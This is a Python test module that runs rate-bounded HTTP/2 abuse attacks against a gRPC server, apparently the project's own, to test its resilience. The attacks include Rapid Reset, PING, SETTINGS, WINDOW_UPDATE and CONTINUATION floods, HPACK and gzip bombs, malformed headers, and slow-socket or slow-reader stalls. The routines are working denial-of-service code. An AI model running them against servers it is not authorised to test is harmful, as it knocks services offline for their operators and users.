"""Abuses of HTTP/2, each against a port until a time is over: `python -m tests.hostile.abuses`.

    python -m tests.hostile.abuses NAME HOST:PORT SECONDS

runs one in a process of its own, so that it takes nothing from who measures, and prints what it
did as JSON. Whoever is cut off connects again. Rates are bounded: an attack from this very machine
would otherwise prove only that two programs share its processors.
"""

import asyncio
import gzip
import sys
import time
from collections.abc import Awaitable, Callable, Mapping

import msgspec

from tests.hostile.http2 import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PADDED,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Wire,
    call_fields,
    frame,
    indexed,
    integer,
    literals,
    message,
    table_size,
)

CREATE = b"/domgrpc.v1.LocationService/CreateLocation"
POSITION = b"/domgrpc.v1.InventoryService/GetPosition"
STATUS = b"/domgrpc.v1.AdminService/GetStatus"
REFLECT = b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
RESETS_PER_SECOND = 4_800
FRAMES_PER_SECOND = 20_000
SILENT_SOCKETS = 500
_BURST = 100
_SLOW_STREAMS = 200
_SLOW_PAUSE_SECONDS = 0.005
_BOMB_BYTES = 100 * 1024 * 1024
_CHUNK_BYTES = 16_000
_FIRST_BYTES_MAX = 48_000
_LONG_HEADER = b"x" * 9_000


class Deeds(msgspec.Struct):
    """What an abuse did."""

    connections: int = 0
    frames: int = 0
    cut_off: int = 0
    """Connections that the server closed, or sent away."""


class Abuse:
    """One attacker: where to, until when, and what it did so far."""

    def __init__(self, target: str, seconds: float) -> None:
        self.target = target
        self.deeds = Deeds()
        self.end = time.monotonic() + seconds

    @property
    def left_seconds(self) -> float:
        """How long there is still to go."""
        return max(0.0, self.end - time.monotonic())

    async def open(self, *, settings: bytes = b"", greets: bool = True) -> Wire:
        """Connect once more."""
        self.deeds.connections += 1
        return await Wire.open(self.target, settings=settings, greets=greets)

    async def close(self, wire: Wire) -> None:
        """Hang up, and note where the server was first."""
        self.deeds.cut_off += wire.is_closed or wire.was_sent_away
        await wire.close()

    async def flood(self, burst: Callable[[Wire], bytes], per_second: int, frames: int) -> None:
        """Send bursts of so many frames at a rate until the time is over."""
        wire = await self.open()
        pause_seconds = frames / per_second
        following = time.monotonic()
        while self.left_seconds > 0:
            if wire.is_closed or wire.was_sent_away:
                await self.close(wire)
                wire = await self.open()
            await wire.send(burst(wire))
            self.deeds.frames += frames
            following = max(following + pause_seconds, time.monotonic() - 1)
            await asyncio.sleep(max(0.0, following - time.monotonic()))
        await self.close(wire)


# --- floods


async def rapid_reset(abuse: Abuse, method: bytes = CREATE) -> None:
    """Begin calls and reset them at once."""
    block = literals(call_fields(method))
    reset = CANCEL.to_bytes(4, "big")

    def burst(wire: Wire) -> bytes:
        found = bytearray()
        for _ in range(_BURST):
            stream = wire.next_stream()
            found += frame(HEADERS, END_HEADERS, stream, block)
            found += frame(RST_STREAM, 0, stream, reset)
        return bytes(found)

    await abuse.flood(burst, RESETS_PER_SECOND, _BURST)


async def rapid_reset_of_reads(abuse: Abuse) -> None:
    """The same with the method that the probe beside it calls: they share a queue in the server."""
    await rapid_reset(abuse, POSITION)


async def ping_flood(abuse: Abuse) -> None:
    """Ask for an answer to a ping, again and again."""
    await _same_frames(abuse, frame(PING, payload=b"whatever"))


async def settings_flood(abuse: Abuse) -> None:
    """Change a setting, again and again; each change must be acknowledged."""
    setting = INITIAL_WINDOW_SIZE.to_bytes(2, "big")
    small, large = (setting + size.to_bytes(4, "big") for size in (1, 65_535))
    await _same_frames(abuse, frame(SETTINGS, payload=small) + frame(SETTINGS, payload=large), 2)


async def window_update_flood(abuse: Abuse) -> None:
    """Give the server room to write, a byte at a time."""
    await _same_frames(abuse, frame(WINDOW_UPDATE, payload=(1).to_bytes(4, "big")))


async def empty_data_flood(abuse: Abuse) -> None:
    """Send a call nothing, again and again, in DATA that is empty or only padding."""
    begin = literals(call_fields(CREATE))
    streams: dict[Wire, int] = {}

    def burst(wire: Wire) -> bytes:
        found = b""
        if wire not in streams:
            streams[wire] = wire.next_stream()
            found = frame(HEADERS, END_HEADERS, streams[wire], begin)
        stream = streams[wire]
        return found + _BURST // 2 * (
            frame(DATA, 0, stream) + frame(DATA, PADDED, stream, b"\x04" + bytes(4))
        )

    await abuse.flood(burst, FRAMES_PER_SECOND, _BURST)


async def continuation_flood(abuse: Abuse) -> None:
    """Begin headers that never end."""
    more = literals([(b"x-more", b"y" * 100)])
    begun: set[Wire] = set()

    def burst(wire: Wire) -> bytes:
        found = b""
        if wire not in begun:
            begun.add(wire)
            found = frame(HEADERS, 0, wire.next_stream(), literals(call_fields(STATUS)))
        return found + _BURST * frame(CONTINUATION, 0, 1, more)

    await abuse.flood(burst, FRAMES_PER_SECOND, _BURST)


async def header_patterns(abuse: Abuse) -> None:
    """Send the headers that once brought servers down: too long, too many, too large in a table."""
    long_te = [(b"te", _LONG_HEADER), *call_fields(STATUS)]
    long_scheme = [(b":method", b"POST"), (b":scheme", _LONG_HEADER), (b":path", STATUS)]
    many = call_fields(STATUS, *((b"x-%d" % number, b"") for number in range(300)))
    huge_number = integer(2**62, 7) + b"x"
    one_kept = indexed([(b"x-kept", b"z" * 4_000)])
    blocks = (
        literals(long_te),
        literals(long_scheme),
        literals(many),
        literals(call_fields(STATUS, (b"x-long", _LONG_HEADER))),
        # A size that no table may have, many changes of it, and a length beyond the block.
        table_size(2**32) + literals(call_fields(STATUS)),
        table_size(0) * 1_000 + literals(call_fields(STATUS)),
        b"\x00" + huge_number,
        # One entry of the table, named thousands of times: the bomb in HPACK.
        one_kept + b"\xbe" * 10_000,
        b"\xff" * 20,
        b"",
    )
    while abuse.left_seconds > 0:
        for block in blocks:
            wire = await abuse.open()
            stream = wire.next_stream()
            await wire.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
            abuse.deeds.frames += 1
            await asyncio.sleep(0.005)
            await abuse.close(wire)


# --- waiting


async def silent_sockets(abuse: Abuse) -> None:
    """Connect and say nothing, or say it a byte at a time."""
    silent = [await abuse.open(greets=False) for _ in range(SILENT_SOCKETS)]
    spoken = 0
    while abuse.left_seconds > 0:
        for number, wire in enumerate(silent):
            if number % 2 and not wire.is_closed and spoken < len(PREFACE):
                await wire.send(PREFACE[spoken : spoken + 1])
                abuse.deeds.frames += 1
        spoken += 1
        await asyncio.sleep(min(0.5, abuse.left_seconds))
    for wire in silent:
        await abuse.close(wire)


async def slow_readers(abuse: Abuse) -> None:
    """Ask for much and give the server no room to write it."""
    no_room = INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4)
    asked = message(b"\x22\x1bdomgrpc.v1.InventoryService")
    begin = literals(call_fields(REFLECT))
    wires = []
    for _ in range(4):
        wire = await abuse.open(settings=no_room)
        wires.append(wire)
        for _ in range(_SLOW_STREAMS):
            if not abuse.left_seconds:
                break
            stream = wire.next_stream()
            await wire.send(frame(HEADERS, END_HEADERS, stream, begin))
            await wire.send(frame(DATA, END_STREAM, stream, asked * 20))
            abuse.deeds.frames += 2
            # Not all at once: that would be a load, and here it is about what is never read.
            await asyncio.sleep(_SLOW_PAUSE_SECONDS)
    await asyncio.sleep(abuse.left_seconds)
    for wire in wires:
        await abuse.close(wire)


async def gzip_bombs(abuse: Abuse) -> None:
    """Send kilobytes that want to be a hundred megabytes."""
    bomb = message(gzip.compress(bytes(_BOMB_BYTES), 9), compressed=True)
    begin = literals(call_fields(CREATE, (b"grpc-encoding", b"gzip")))
    while True:
        wire = await abuse.open()
        stream = wire.next_stream()
        await wire.send(frame(HEADERS, END_HEADERS, stream, begin))
        # No more than the windows take that a connection has at its start, then a moment for more.
        for start in range(0, len(bomb), _CHUNK_BYTES):
            if start >= _FIRST_BYTES_MAX:
                await asyncio.sleep(0.02)
            await wire.send(frame(DATA, 0, stream, bomb[start : start + _CHUNK_BYTES]))
            abuse.deeds.frames += 1
        await wire.send(frame(DATA, END_STREAM, stream))
        await asyncio.sleep(0.05)
        await abuse.close(wire)
        if not abuse.left_seconds:
            break


async def _same_frames(abuse: Abuse, raw: bytes, frames: int = 1) -> None:
    burst = raw * (_BURST // frames)
    await abuse.flood(lambda _: burst, FRAMES_PER_SECOND, _BURST)


ABUSES: Mapping[str, Callable[[Abuse], Awaitable[None]]] = {
    "rapid reset": rapid_reset,
    "rapid reset of the probe's method": rapid_reset_of_reads,
    "silent sockets": silent_sockets,
    "slow readers": slow_readers,
    "ping flood": ping_flood,
    "settings flood": settings_flood,
    "window update flood": window_update_flood,
    "empty DATA flood": empty_data_flood,
    "CONTINUATION flood": continuation_flood,
    "header patterns": header_patterns,
    "gzip bombs": gzip_bombs,
}


async def run(name: str, target: str, seconds: float) -> Deeds:
    """Run an abuse until its time is over."""
    abuse = Abuse(target, seconds)
    await ABUSES[name](abuse)
    return abuse.deeds


def main(name: str, target: str, seconds: str) -> None:
    """Run an abuse, and say what it did."""
    deeds = asyncio.run(run(name, target, float(seconds)))
    sys.stdout.write(msgspec.json.encode(deeds).decode() + "\n")


if __name__ == "__main__":
    main(*sys.argv[1:])
